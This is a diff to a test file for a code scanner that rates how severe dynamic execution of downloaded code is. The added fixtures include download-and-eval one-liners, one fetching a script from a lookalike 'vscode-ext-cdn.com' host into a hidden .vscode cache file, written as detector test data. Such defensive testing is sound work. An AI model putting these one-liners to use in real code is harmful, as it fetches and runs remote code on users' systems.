@@ -3095,7 +3095,12 @@ describe('dynamic-code-execution of downloaded code', () => {
     expect(sink('src/page.js', ['const html = await (await fetch(url)).text();', 'const total = eval(expression);'])?.severity).toBe('high');
     expect(sink('src/page.js', ['const data = await (await fetch(url)).json();', 'const total = eval(expression);'])?.severity).toBe('medium');
   });
+  it('a download through the module required on the same line (require(\'https\').get) is one too', () => {
+    expect(sink('.vscode/.cache/preload.js', ["require('https').get('https://vscode-ext-cdn.com/p.js', (r) => { let d = ''; r.on('data', (c) => (d += c)); r.on('end', () => eval(d)); });"])?.severity).toBe('high');
+    expect(sink('lib/boot.js', ['require("node:http").request({ host: "10.0.0.5", path: "/p.js" }, (r) => r.on("data", (c) => eval(String(c)))).end();'])?.severity).toBe('high');
+  });
   it('eval without a download in its hunk keeps its ordinary severity; a download without a code sink is no finding', () => {
+    expect(sink('lib/helper.js', ["const total = eval(expression);", "const mod = require('https-proxy-agent').get;"])?.severity).toBe('medium');
     expect(sink('pkg/helper.py', ['exec(compile(source, path, "exec"))'])?.severity).toBe('medium');
     expect(sink('pkg/client.py', ["data = requests.get('https://api.example.com/v1/items').json()"])).toBeUndefined();
   });
